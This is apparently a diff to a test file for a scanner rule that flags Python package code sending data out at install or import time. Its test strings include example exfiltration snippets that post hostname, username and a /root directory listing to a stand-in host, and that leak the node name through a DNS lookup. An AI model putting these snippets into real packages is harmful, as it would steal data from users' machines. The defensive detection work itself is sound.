@@ -73,3 +73,20 @@ def test_the_user_as_the_environment_knows_it(scan):
 requests.post("https://c.example.test/", json={"h": socket.gethostname(), "u": os.environ.get("USERNAME")})
 """
     assert scan(RULE, text, "package/__init__.py") == [(2, "HIGH", "HIGH", "import")]
+
+
+def test_names_of_files_at_installation(scan):
+    text = """import os, requests
+from setuptools import setup
+requests.post("https://collect.example.test/", data={"root": os.listdir("/root")})
+setup(name="a")
+"""
+    assert scan(RULE, text, "setup.py") == [(3, "HIGH", "HIGH", "install")]
+    assert scan(RULE, text) == []
+
+
+def test_a_resolver_of_a_library(scan):
+    text = """import binascii, os, dns.resolver
+dns.resolver.resolve(binascii.hexlify(os.uname().nodename.encode()).decode() + ".collect.example.test", "A")
+"""
+    assert scan(RULE, text, "package/__init__.py") == [(2, "HIGH", "HIGH", "import")]
